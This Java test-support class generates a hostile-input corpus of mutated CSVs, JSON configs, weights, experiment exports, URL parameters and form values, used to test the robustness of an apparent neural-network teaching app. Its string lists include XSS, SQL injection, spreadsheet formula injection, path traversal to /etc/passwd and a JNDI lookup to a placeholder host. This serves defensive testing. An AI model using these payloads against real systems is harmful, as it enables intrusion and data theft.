package io.tinynets.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.tinynets.data.Dataset2D;
import io.tinynets.data.Point2D;
import io.tinynets.lab.autoencoder.AutoencoderConfig;
import io.tinynets.lab.autoencoder.AutoencoderConfigJson;
import io.tinynets.lab.autoencoder.AutoencoderInternals;
import io.tinynets.lab.autoencoder.AutoencoderLabTrainer;
import io.tinynets.lab.depth.DepthConfigJson;
import io.tinynets.lab.depth.DepthInternals;
import io.tinynets.lab.depth.DepthTrainer;
import io.tinynets.lab.descent.DescentConfigJson;
import io.tinynets.lab.descent.DescentTrainer;
import io.tinynets.lab.playground.PlaygroundConfig;
import io.tinynets.lab.playground.PlaygroundConfigJson;
import io.tinynets.lab.playground.PlaygroundInternals;
import io.tinynets.lab.playground.PlaygroundTrainer;
import io.tinynets.lab.sequence.LiveOptions;
import io.tinynets.lab.sequence.SequenceConfig;
import io.tinynets.lab.sequence.SequenceConfigJson;
import io.tinynets.lab.sequence.SequenceInternals;
import io.tinynets.lab.sequence.SequenceTrainer;
import io.tinynets.lab.sequence.SequenceWeights;
import io.tinynets.training.Trainer;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;

/**
 * Writes the hostile-input corpus of {@link HostileInputCorpusTest} into {@code src/test/resources/hostile}: CSV
 * uploads, experiment export files, saved weights and lab configurations made by mutating valid seeds (the labs' own
 * writers, a real export, weights of a trained epoch), plus hand-written nasty cases; URL parameters and form values
 * from lists of hostile strings. Deterministic (fixed seeds): regenerate with
 * {@code mvn -q test-compile exec:java -Dexec.mainClass=io.tinynets.hostile.HostileCorpusGenerator
 * -Dexec.classpathScope=test}.
 */
public final class HostileCorpusGenerator {

    static final Path ROOT = Path.of("src/test/resources/hostile");
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** Strings a hostile visitor types anywhere. */
    static final List<String> NASTY = List.of("", " ", "\t\n\r", "\u0000", "a\u0000b", "\uFEFFbom",
            "\u202Eevil\u202C", "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "😀", "\uD83D", "\uDE00x",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE experiment; --",
            "=HYPERLINK(\"http://evil\")", "+cmd|' /C calc'!A0", "../../../../etc/passwd", "%00", "%2e%2e%2f",
            "${jndi:ldap://evil/a}", "{0}{1}{2}", "'", "''", "\\", "null", "NaN", "-Infinity", "1e309", "-0",
            "99999999999999999999999999", "한국어 이름", "名前", "a".repeat(101), "b".repeat(4_001),
            "line1\nline2", "tab\tseparated", "comma,separated", "semi;colon", "\u200B\u200B\u200B",
            "\u0007bell", "🧑‍🏫".repeat(30));

    private final Map<String, Integer> counters = new LinkedHashMap<>();
    private final SplittableRandom random = new SplittableRandom(20261204L);

    public static void main(String[] args) throws IOException {
        Path root = args.length > 0 ? Path.of(args[0]) : ROOT;
        new HostileCorpusGenerator().generate(root);
    }

    void generate(Path root) throws IOException {
        if (Files.exists(root)) {
            try (var files = Files.walk(root)) {
                for (Path p : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
                    Files.delete(p);
                }
            }
        }
        csv(root.resolve("csv"));
        configs(root.resolve("configs"));
        weights(root.resolve("weights"));
        experiments(root.resolve("experiments"));
        urls(root.resolve("url"));
        forms(root.resolve("forms"));
        System.out.println("hostile corpus: " + counters);
    }

    private void write(Path dir, String name, String ext, byte[] content) throws IOException {
        Files.createDirectories(dir);
        int n = counters.merge(dir.getFileName().toString(), 1, Integer::sum);
        String safe = name.replaceAll("[^A-Za-z0-9_-]", "-");
        Files.write(dir.resolve(String.format(Locale.ROOT, "%04d-%s.%s", n, safe.substring(0,
                Math.min(safe.length(), 60)), ext)), content);
    }

    private void write(Path dir, String name, String ext, String content) throws IOException {
        write(dir, name, ext, content.getBytes(StandardCharsets.UTF_8));
    }

    // ---- CSV ------------------------------------------------------------------------------------------------------

    private void csv(Path dir) throws IOException {
        List<String> seeds = new ArrayList<>();
        StringBuilder two = new StringBuilder("x1,x2,label\n");
        StringBuilder three = new StringBuilder();
        for (int i = 0; i < 40; i++) {
            two.append(String.format(Locale.ROOT, "%.4f,%.4f,%d%n", Math.sin(i), Math.cos(i), i % 2));
            three.append(String.format(Locale.ROOT, "%.3f,%.3f,%d%n", i * 0.1 - 2, Math.sin(i) * 2, i % 3));
        }
        seeds.add(two.toString());
        seeds.add(three.toString());
        seeds.add("x1,x2,label\n-1,-1,-1\n1,1,1\n-1,1,1\n1,-1,-1\n");
        List<String> cells = List.of("NaN", "nan", "Infinity", "-inf", "1e309", "-1e309", "1e-400", "0x10", "1_000",
                "1,5", "\"1\"", "'2'", "", " ", "+.5", ".", "-", "1e", "e5", "١٢", "１", "1.0f", "1d", "--1", "1..2",
                "9".repeat(400), "0.".repeat(50), "\u00001", "=1+1", "@SUM(A1)", "1 2", "１e３", "+", "true",
                "1e15", "-1e15", "2.5", "-0", "1E2", "00001", "\t3\t");
        for (int s = 0; s < seeds.size(); s++) {
            String[] lines = seeds.get(s).split("\n");
            int dataLine = lines[0].startsWith("x1") ? 1 : 0;
            for (String cell : cells) {
                for (int col = 0; col < 3; col++) {
                    if (random.nextInt(3) != 0 && col != 2) {
                        continue; // every cell value in the label column, a third of them elsewhere
                    }
                    String[] copy = lines.clone();
                    String[] parts = copy[dataLine + random.nextInt(lines.length - dataLine)].split(",", -1);
                    int line = java.util.Arrays.asList(copy).indexOf(String.join(",", parts));
                    parts[col] = cell;
                    copy[line] = String.join(",", parts);
                    write(dir, "seed" + s + "-col" + col + "-" + cell, "csv", String.join("\n", copy) + "\n");
                }
            }
        }
        // whole-file shapes
        write(dir, "empty", "csv", "");
        write(dir, "blank-lines", "csv", "\n\n   \n\t\n");
        write(dir, "header-only", "csv", "x1,x2,label\n");
        write(dir, "one-class", "csv", "0,0,1\n1,1,1\n2,2,1\n");
        write(dir, "bom-crlf", "csv", "\uFEFFx1,x2,label\r\n0,0,0\r\n1,1,1\r\n");
        write(dir, "cr-only", "csv", "0,0,0\r1,1,1\r");
        write(dir, "semicolons", "csv", "0;0;0\n1;1;1\n");
        write(dir, "tabs", "csv", "0\t0\t0\n1\t1\t1\n");
        write(dir, "four-columns", "csv", "0,0,0,0\n1,1,1,1\n");
        write(dir, "two-columns", "csv", "0,0\n1,1\n");
        write(dir, "trailing-comma", "csv", "0,0,0,\n1,1,1,\n");
        write(dir, "quoted", "csv", "\"0\",\"0\",\"0\"\n\"1\",\"1\",\"1\"\n");
        write(dir, "html", "csv", "<html><body>not a csv</body></html>\n");
        write(dir, "json", "csv", "{\"x1\":1,\"x2\":2,\"label\":0}\n");
        write(dir, "nul-bytes", "csv", new byte[] {'0', ',', 0, ',', '0', '\n', '1', ',', '1', ',', '1', '\n'});
        write(dir, "invalid-utf8", "csv", new byte[] {'0', ',', (byte) 0xC3, (byte) 0x28, ',', '0', '\n', '1', ',',
            '1', ',', '1', '\n'});
        write(dir, "utf16", "csv", "0,0,0\n1,1,1\n".getBytes(StandardCharsets.UTF_16));
        write(dir, "long-line", "csv", "0,0,0\n1,1," + "1".repeat(100_000) + "\n");
        write(dir, "huge-coordinates", "csv", "1e300,-1e300,0\n-1e300,1e300,1\n");
        write(dir, "tiny-coordinates", "csv", "1e-300,-1e-300,0\n4.9e-324,0,1\n");
        StringBuilder eleven = new StringBuilder();
        for (int c = 0; c <= 10; c++) {
            eleven.append(c).append(',').append(c).append(',').append(c).append('\n');
        }
        write(dir, "eleven-classes", "csv", eleven.toString());
        StringBuilder ten = new StringBuilder();
        for (int c = 0; c < 10; c++) {
            ten.append(c).append(',').append(-c).append(',').append(c * 7).append('\n');
        }
        write(dir, "ten-classes-odd-labels", "csv", ten.toString());
        for (int rows : new int[] {10_000, 10_001}) {
            StringBuilder many = new StringBuilder();
            for (int i = 0; i < rows; i++) {
                many.append(i % 97).append(',').append(i % 89).append(',').append(i % 2).append('\n');
            }
            write(dir, rows + "-rows", "csv", many.toString());
        }
        write(dir, "huge-labels", "csv", "0,0,1e15\n1,1,-1e15\n");
        write(dir, "fraction-label", "csv", "0,0,0.5\n1,1,1\n");
        write(dir, "header-then-header", "csv", "x1,x2,label\nx1,x2,label\n0,0,0\n1,1,1\n");
        write(dir, "formula-injection", "csv", "=cmd|' /C calc'!A0,0,0\n1,1,1\n");
    }

    // ---- lab configurations -----------------------------------------------------------------------------------

    /** A valid configuration of each lab, from its own writer. */
    static Map<String, String> labConfigs() {
        Map<String, String> out = new LinkedHashMap<>();
        Dataset2D own = new Dataset2D(List.of(new Point2D(0.5, 1.5, 1), new Point2D(-1, 2, 0),
                new Point2D(2, -1, 1)), List.of(new Point2D(0, 0, 0)), 2);
        out.put("playground", PlaygroundConfigJson.write(PlaygroundConfig.defaults(), null));
        out.put("playground-own", PlaygroundConfigJson.write(PlaygroundConfig.defaults(), own));
        out.put("descent", DescentConfigJson.write(io.tinynets.lab.descent.DescentConfig.of(
                io.tinynets.lab.descent.SurfaceKind.RAVINE, List.of(io.tinynets.engine.optim.OptimizerKind.SGD,
                        io.tinynets.engine.optim.OptimizerKind.ADAM), 0.05)));
        out.put("depth", DepthConfigJson.write(new io.tinynets.lab.depth.DepthConfig(io.tinynets.data.DatasetKind.XOR,
                4, 6, List.of(io.tinynets.engine.Activation.SIGMOID, io.tinynets.engine.Activation.RELU),
                io.tinynets.engine.init.Initializer.XAVIER, 0.1)));
        out.put("sequence", SequenceConfigJson.write(new SequenceConfig(
                io.tinynets.lab.sequence.SequenceTaskKind.DELAYED_RECALL, 5, 12, "", io.tinynets.engine.recurrent
                .CellKind.LSTM, true, 8, io.tinynets.engine.optim.OptimizerKind.ADAM, 0.01, 1.0, true)));
        out.put("sequence-text", SequenceConfigJson.write(new SequenceConfig(
                io.tinynets.lab.sequence.SequenceTaskKind.CUSTOM_TEXT, 5, 8, "hello hostile world, 안녕하세요!",
                io.tinynets.engine.recurrent.CellKind.GRU, false, 8, io.tinynets.engine.optim.OptimizerKind.ADAM,
                0.01, 1.0, true)));
        out.put("autoencoder", AutoencoderConfigJson.write(new AutoencoderConfig(
                io.tinynets.data.images.ImageSetKind.DIGITS_8, 200, new int[] {16}, 2, io.tinynets.engine.Activation
                .TANH, false, io.tinynets.engine.model.AutoencoderLoss.MSE, io.tinynets.engine.model.AutoencoderNoise
                .NONE, io.tinynets.engine.optim.OptimizerKind.ADAM, 0.01)));
        return out;
    }

    private static String labOf(String seedName) {
        return seedName.contains("-") ? seedName.substring(0, seedName.indexOf('-')) : seedName;
    }

    private void configs(Path dir) throws IOException {
        for (var seed : labConfigs().entrySet()) {
            String lab = labOf(seed.getKey());
            JsonNode tree = JSON.readTree(seed.getValue());
            write(dir, lab + "__valid-" + seed.getKey(), "json", seed.getValue());
            List<List<Object>> paths = paths(tree, new ArrayList<>());
            for (List<Object> path : paths) {
                for (JsonNode value : pickValues(4)) {
                    write(dir, lab + "__" + describe(path) + "-" + shortly(value), "json",
                            write(replaced(tree, path, value)));
                }
                if (path.get(path.size() - 1) instanceof String) {
                    write(dir, lab + "__" + describe(path) + "-removed", "json", write(removed(tree, path)));
                }
            }
            write(dir, lab + "__extra-field", "json", write(((ObjectNode) tree.deepCopy()).put("hacked", true)));
            write(dir, lab + "__deep", "json", "[".repeat(3_000) + "]".repeat(3_000));
            write(dir, lab + "__not-json", "json", "version: 1\nhidden: [4, 2]\n");
            write(dir, lab + "__truncated", "json", seed.getValue().substring(0, seed.getValue().length() / 2));
            write(dir, lab + "__duplicate-key", "json", seed.getValue().replaceFirst("\\{", "{\"version\":1,"));
        }
        // hand-written: the crafted playground data, and other impossible own data
        String own = labConfigs().get("playground-own");
        write(dir, "playground__classes-1e8", "json", own.replace("\"classes\":2", "\"classes\":100000000"));
        write(dir, "playground__label-beyond-classes", "json", own.replace("[0.5,1.5,1.0]", "[0.5,1.5,9.0]"));
        write(dir, "playground__point-infinite", "json", own.replace("[0.5,1.5,1.0]", "[1e999,1.5,1.0]"));
        write(dir, "playground__point-short", "json", own.replace("[0.5,1.5,1.0]", "[0.5,1.5]"));
        StringBuilder many = new StringBuilder("[");
        for (int i = 0; i < 10_001; i++) {
            many.append(i == 0 ? "" : ",").append("[0.5,1.5,1.0]");
        }
        write(dir, "playground__10001-points", "json", own.replace("[[0.5,1.5,1.0],", many + ","));
        write(dir, "autoencoder__too-many-parameters", "json", labConfigs().get("autoencoder")
                .replace("\"digits8\"", "\"digits16\"").replace("\"hidden\":[16]", "\"hidden\":[128,128,128]"));
        write(dir, "sequence__alphabet-300", "json", labConfigs().get("sequence-text").replace(
                "hello hostile world, 안녕하세요!", alphabet(300)));
    }

    private static String alphabet(int n) {
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < n; i++) {
            b.appendCodePoint(0xAC00 + i);
        }
        return b.toString();
    }

    // ---- weights ------------------------------------------------------------------------------------------------

    /**
     * The configuration each lab's corpus weights belong to: the seed configurations, with small networks for the
     * sequence and autoencoder labs (the corpus is about the shape of hostile weights, not their size).
     */
    static Map<String, String> weightsConfigs() {
        Map<String, String> configs = labConfigs();
        Map<String, String> out = new LinkedHashMap<>();
        out.put("playground", configs.get("playground"));
        out.put("descent", configs.get("descent"));
        out.put("depth", configs.get("depth"));
        out.put("sequence", SequenceConfigJson.write(new SequenceConfig(
                io.tinynets.lab.sequence.SequenceTaskKind.DELAYED_RECALL, 5, 12, "",
                io.tinynets.engine.recurrent.CellKind.LSTM, false, 3, io.tinynets.engine.optim.OptimizerKind.ADAM,
                0.01, 1.0, true)));
        out.put("autoencoder", AutoencoderConfigJson.write(new AutoencoderConfig(
                io.tinynets.data.images.ImageSetKind.CURVE_3D, 100, new int[] {4}, 2, io.tinynets.engine.Activation
                .TANH, false, io.tinynets.engine.model.AutoencoderLoss.MSE, io.tinynets.engine.model.AutoencoderNoise
                .NONE, io.tinynets.engine.optim.OptimizerKind.ADAM, 0.01)));
        return out;
    }

    /** Weights of each lab after one trained epoch of its {@link #weightsConfigs()} configuration. */
    static Map<String, String> labWeights() {
        Map<String, String> out = new LinkedHashMap<>();
        Map<String, String> configs = weightsConfigs();
        PlaygroundConfig p = PlaygroundConfigJson.read(configs.get("playground"), 1).config();
        Dataset2D data = Dataset2D.generate(p.dataset(), p.points(), p.noise(), p.trainFraction(),
                new SplittableRandom(p.seed()));
        PlaygroundTrainer pt = new PlaygroundTrainer(p, data, 1);
        out.put("playground", PlaygroundTrainer.weightsJson(p, data.classes(), trained(pt)));
        DescentTrainer dt = new DescentTrainer(DescentConfigJson.read(configs.get("descent"), 1));
        out.put("descent", DescentTrainer.positionsJson(trained(dt)));
        var depth = DepthConfigJson.read(configs.get("depth"), 1);
        DepthInternals di = trained(new DepthTrainer(depth, 1));
        out.put("depth", DepthTrainer.weightsJson(depth, di));
        SequenceConfig s = SequenceConfigJson.read(configs.get("sequence"), 1);
        SequenceInternals si = trained(new SequenceTrainer(s, new LiveOptions(), 1));
        out.put("sequence", SequenceWeights.write(s, si));
        AutoencoderConfig a = AutoencoderConfigJson.read(configs.get("autoencoder"), 1);
        AutoencoderInternals ai = trained(AutoencoderLabTrainer.factory(a).create(1));
        out.put("autoencoder", ai.decoder().weightsJson());
        return out;
    }

    private static <I> I trained(Trainer<I> t) {
        t.trainEpoch();
        return t.captureInternals();
    }

    private void weights(Path dir) throws IOException {
        for (var seed : labWeights().entrySet()) {
            String lab = seed.getKey();
            JsonNode tree = JSON.readTree(seed.getValue());
            write(dir, lab + "__valid", "json", seed.getValue());
            List<List<Object>> paths = paths(tree, new ArrayList<>());
            java.util.Collections.shuffle(paths, new java.util.Random(lab.hashCode()));
            for (List<Object> path : paths.subList(0, Math.min(paths.size(), 12))) {
                for (JsonNode value : pickValues(2)) {
                    write(dir, lab + "__" + describe(path) + "-" + shortly(value), "json",
                            write(replaced(tree, path, value)));
                }
                if (path.get(path.size() - 1) instanceof String) {
                    write(dir, lab + "__" + describe(path) + "-removed", "json", write(removed(tree, path)));
                }
            }
            write(dir, lab + "__empty-object", "json", "{}");
            write(dir, lab + "__array", "json", "[1,2,3]");
            write(dir, lab + "__deep", "json", "{\"a\":" + "[".repeat(2_000) + "]".repeat(2_000) + "}");
            write(dir, lab + "__epochs-huge", "json", write(((ObjectNode) tree.deepCopy()).put("epochs",
                    Long.MAX_VALUE)));
            write(dir, lab + "__epochs-negative", "json", write(((ObjectNode) tree.deepCopy()).put("epochs", -5)));
            write(dir, lab + "__nan-text", "json", seed.getValue().replaceFirst("(-?\\d+\\.\\d+)", "NaN"));
            write(dir, lab + "__infinite", "json", seed.getValue().replaceFirst("(-?\\d+\\.\\d+)", "1e999"));
            write(dir, lab + "__truncated", "json", seed.getValue().substring(0, seed.getValue().length() / 2));
        }
    }

    // ---- experiment exports -----------------------------------------------------------------------------------

    /** A valid export of one experiment of each lab (configuration, curves, figures, weights, picture). */
    static ObjectNode export() {
        ObjectNode root = NODES.objectNode().put("format", "tinynets-experiments").put("schemaVersion", 1)
                .put("exportedAt", "2026-12-04T00:00:00Z");
        ArrayNode list = root.putArray("experiments");
        Map<String, String> weights = labWeights();
        for (var c : labConfigs().entrySet()) {
            String lab = labOf(c.getKey());
            ObjectNode e = list.addObject().put("lab", lab).put("name", "seed " + c.getKey()).put("notes", "n");
            e.putArray("tags").add("t");
            try {
                e.set("config", JSON.readTree(c.getValue()));
                boolean small = lab.equals("playground") || lab.equals("descent") || lab.equals("depth");
                e.set("weights", small && c.getKey().equals(lab) ? JSON.readTree(weights.get(lab)) : NODES.nullNode());
            } catch (IOException ex) {
                throw new IllegalStateException(ex);
            }
            e.put("configVersion", 1).put("seed", 7);
            ObjectNode curve = e.putArray("curves").addObject().put("name", "loss").put("recordedPoints", 3);
            curve.putArray("x").add(1).add(2).add(3);
            curve.putArray("y").add(0.7).add(0.5).add(NODES.nullNode());
            e.putObject("finalMetrics").put("loss", 0.5);
            e.putObject("picture").put("cols", 2).put("rows", 1).put("min", -1).put("max", 1).put("values", "AP8=");
            e.put("createdAt", "2026-12-04T00:00:00Z");
        }
        return root;
    }

    private void experiments(Path dir) throws IOException {
        ObjectNode valid = export();
        write(dir, "valid-all-labs", "json", write(valid));
        // one experiment at a time, each of its fields mutated
        for (int i = 0; i < valid.get("experiments").size(); i++) {
            ObjectNode one = valid.deepCopy();
            ArrayNode only = NODES.arrayNode().add(one.get("experiments").get(i));
            one.set("experiments", only);
            List<List<Object>> paths = paths(one, new ArrayList<>());
            java.util.Collections.shuffle(paths, new java.util.Random(i));
            for (List<Object> path : paths.subList(0, Math.min(paths.size(), 18))) {
                JsonNode value = pickValues(1).get(0);
                write(dir, "exp" + i + "-" + describe(path) + "-" + shortly(value), "json",
                        write(replaced(one, path, value)));
                if (path.get(path.size() - 1) instanceof String && random.nextBoolean()) {
                    write(dir, "exp" + i + "-" + describe(path) + "-removed", "json", write(removed(one, path)));
                }
            }
        }
        String text = write(valid);
        // hand-written
        write(dir, "the-issue-crafted-classes", "json", text.replace("\"classes\":2", "\"classes\":100000000"));
        write(dir, "the-issue-loss-zero", "json", text.replace("\"loss\":0.5", "\"loss\":0"));
        write(dir, "empty", "json", "");
        write(dir, "bom", "json", "\uFEFF" + text);
        write(dir, "trailing-garbage", "json", text + "xyz");
        write(dir, "two-documents", "json", text + text);
        write(dir, "not-an-export", "json", "{\"format\":\"something-else\",\"schemaVersion\":1,\"experiments\":[]}");
        write(dir, "schema-2", "json", text.replace("\"schemaVersion\":1", "\"schemaVersion\":2"));
        write(dir, "no-experiments", "json", text.replaceFirst("\"experiments\":\\[.*]}$", "\"experiments\":[]}"));
        write(dir, "deep", "json", "{\"format\":\"tinynets-experiments\",\"schemaVersion\":1,\"experiments\":"
                + "[".repeat(5_000) + "]".repeat(5_000) + "}");
        write(dir, "duplicate-keys", "json", text.replaceFirst("\\{", "{\"format\":\"x\","));
        write(dir, "nan-token", "json", text.replace("\"loss\":0.5", "\"loss\":NaN"));
        write(dir, "comments", "json", "/* hi */" + text);
        write(dir, "single-quotes", "json", text.replace('"', '\''));
        write(dir, "utf16", "json", text.getBytes(StandardCharsets.UTF_16));
        write(dir, "invalid-utf8", "json", concat(text.substring(0, 40).getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xFF, (byte) 0xFE}, text.substring(40).getBytes(StandardCharsets.UTF_8)));
        ObjectNode many = valid.deepCopy();
        ArrayNode list = many.putArray("experiments");
        for (int i = 0; i < 101; i++) {
            list.add(valid.get("experiments").get(2).deepCopy());
        }
        write(dir, "101-experiments", "json", write(many));
        ObjectNode last = valid.deepCopy();
        ((ObjectNode) last.get("experiments").get(last.get("experiments").size() - 1)).put("lab", "hopfield");
        write(dir, "last-of-many-unknown-lab", "json", write(last));
        ObjectNode lies = valid.deepCopy();
        ((ObjectNode) lies.get("experiments").get(0).get("curves").get(0)).put("recordedPoints", 1_000_000_000);
        write(dir, "curve-recorded-points-lie", "json", write(lies));
        ObjectNode pic = valid.deepCopy();
        ((ObjectNode) pic.get("experiments").get(0).get("picture")).put("cols", 100_000).put("rows", 100_000);
        write(dir, "picture-huge", "json", write(pic));
        ObjectNode b64 = valid.deepCopy();
        ((ObjectNode) b64.get("experiments").get(0).get("picture")).put("values", "!!!not base64!!!");
        write(dir, "picture-bad-base64", "json", write(b64));
        ObjectNode metrics = valid.deepCopy();
        ObjectNode m = (ObjectNode) metrics.get("experiments").get(0).get("finalMetrics");
        for (int i = 0; i < 30; i++) {
            m.put("metric " + i, i);
        }
        write(dir, "too-many-metrics", "json", write(metrics));
        ObjectNode names = valid.deepCopy();
        for (String nasty : NASTY) {
            ((ObjectNode) names.get("experiments").get(0)).put("name", nasty);
            write(dir, "name-" + shortly(NODES.textNode(nasty)), "json", write(names));
        }
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }

    // ---- URL parameters and form values -------------------------------------------------------------------------

    private void urls(Path dir) throws IOException {
        List<String> ids = List.of("-1", "0", "1", "abc", "1.5", "1e3", "99999999999999999999", "9223372036854775807",
                "%00", "%27%20OR%201%3D1", "%3Cscript%3E", "1%2C2", "+1", "0x10", "", "%F0%9F%98%80",
                "1&experiment=2", "%2e%2e%2f");
        for (String lab : List.of("playground", "descent", "depth", "sequence", "autoencoder")) {
            for (String id : ids) {
                write(dir, lab + "-experiment-" + id, "txt", lab + "?experiment=" + id);
            }
            for (String id : List.of("-1", "abc", "99999999999999999999", "%00", "")) {
                write(dir, lab + "-assignment-" + id, "txt", lab + "?assignment=" + id);
            }
        }
        for (String ids2 : List.of("", "1", "1,1", "1,2", "a,b", "-1,-2", "1,2,3,4,5,6,7,8,9", "1,,2", "%00,1",
                "9999999999999999999,1", "1;2", String.join(",", java.util.Collections.nCopies(500, "1")))) {
            write(dir, "compare-" + ids2, "txt", "experiments/compare?ids=" + ids2);
        }
        for (String code : List.of("", "abc", "%3Cscript%3E", "A".repeat(2000), "%00", "ＡＢＣ")) {
            write(dir, "signup-" + code, "txt", "signup?code=" + code);
        }
        for (String path : List.of("experiments/-1", "experiments/abc", "experiments/99999999999999999999",
                "experiments/0", "experiments/%2e%2e", "dashboard/abc", "dashboard/-1", "dashboard/99999999999999999999",
                "playground/extra/path", "nonexistent", "assignments?class=abc", "experiments?lab=%00")) {
            write(dir, "path-" + path, "txt", path);
        }
    }

    private void forms(Path dir) throws IOException {
        List<String> targets = List.of("experiment.name", "experiment.notes", "experiment.tags", "class.name",
                "students", "assignment.title", "assignment.instructions", "feedback");
        for (String target : targets) {
            for (String value : NASTY) {
                write(dir, target + "-" + shortly(NODES.textNode(value)), "txt", target + "\n" + value);
            }
        }
        for (String target : List.of("students", "experiment.notes", "assignment.instructions")) {
            write(dir, target + "-70000-characters", "txt", target + "\n" + "c".repeat(70_000));
        }
        write(dir, "students-201-names", "txt", "students\n" + String.join("\n",
                java.util.stream.IntStream.range(0, 201).mapToObj(i -> "student " + i).toList()));
        write(dir, "students-long-csv", "txt", "students\n" + "name,extra\n" + "x,".repeat(40_000));
        write(dir, "experiment.tags-eleven", "txt", "experiment.tags\na,b,c,d,e,f,g,h,i,j,k");
        write(dir, "experiment.tags-long", "txt", "experiment.tags\n" + "t".repeat(31));
    }

    // ---- tree mutation ------------------------------------------------------------------------------------------

    /** {@code n} replacement values drawn from the hostile ones. */
    private List<JsonNode> pickValues(int n) {
        List<JsonNode> all = new ArrayList<>();
        for (double d : new double[] {-1, 0, 1e300, -1e300, 1e18, 0.5, 7.5}) {
            all.add(NODES.numberNode(d));
        }
        for (long l : new long[] {-1, 100_000_000, Integer.MAX_VALUE + 1L, Long.MIN_VALUE}) {
            all.add(NODES.numberNode(l));
        }
        all.add(NODES.numberNode(new java.math.BigDecimal("1e999")));
        all.add(NODES.textNode("NaN"));
        all.add(NODES.textNode(""));
        all.add(NODES.textNode("z".repeat(2_000)));
        all.add(NODES.booleanNode(false));
        all.add(NODES.nullNode());
        all.add(NODES.objectNode().put("a", 1));
        all.add(NODES.arrayNode());
        ArrayNode long1 = NODES.arrayNode();
        for (int i = 0; i < 2_000; i++) {
            long1.add(1);
        }
        all.add(long1);
        JsonNode deep = NODES.arrayNode();
        for (int i = 0; i < 300; i++) {
            deep = NODES.arrayNode().add(deep);
        }
        all.add(deep);
        List<JsonNode> out = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            out.add(all.get(random.nextInt(all.size())));
        }
        return out;
    }

    private static String shortly(JsonNode v) {
        String s = v.isTextual() ? v.textValue() : v.toString();
        s = s.codePoints().limit(16).collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                .toString();
        return s.isEmpty() ? "empty" : s;
    }

    private static String describe(List<Object> path) {
        StringBuilder b = new StringBuilder();
        for (Object p : path) {
            b.append(b.isEmpty() ? "" : ".").append(p);
        }
        String s = b.toString();
        return s.length() <= 40 ? s : s.substring(s.length() - 40);
    }

    private static List<List<Object>> paths(JsonNode node, List<Object> at) {
        List<List<Object>> out = new ArrayList<>();
        if (node.isObject()) {
            for (Iterator<String> it = node.fieldNames(); it.hasNext(); ) {
                String f = it.next();
                List<Object> p = new ArrayList<>(at);
                p.add(f);
                out.add(p);
                out.addAll(paths(node.get(f), p));
            }
        } else if (node.isArray() && !node.isEmpty()) {
            for (int i : new java.util.LinkedHashSet<>(List.of(0, node.size() - 1))) {
                List<Object> p = new ArrayList<>(at);
                p.add(i);
                out.add(p);
                out.addAll(paths(node.get(i), p));
            }
        }
        return out;
    }

    private static JsonNode replaced(JsonNode root, List<Object> path, JsonNode value) {
        JsonNode copy = root.deepCopy();
        JsonNode parent = at(copy, path.subList(0, path.size() - 1));
        Object last = path.get(path.size() - 1);
        if (last instanceof String f) {
            ((ObjectNode) parent).set(f, value);
        } else {
            ((ArrayNode) parent).set((Integer) last, value);
        }
        return copy;
    }

    private static JsonNode removed(JsonNode root, List<Object> path) {
        JsonNode copy = root.deepCopy();
        ((ObjectNode) at(copy, path.subList(0, path.size() - 1))).remove((String) path.get(path.size() - 1));
        return copy;
    }

    private static JsonNode at(JsonNode node, List<Object> path) {
        for (Object p : path) {
            node = p instanceof String f ? node.get(f) : node.get((Integer) p);
        }
        return node;
    }

    private static String write(JsonNode n) {
        try {
            return JSON.writeValueAsString(n);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
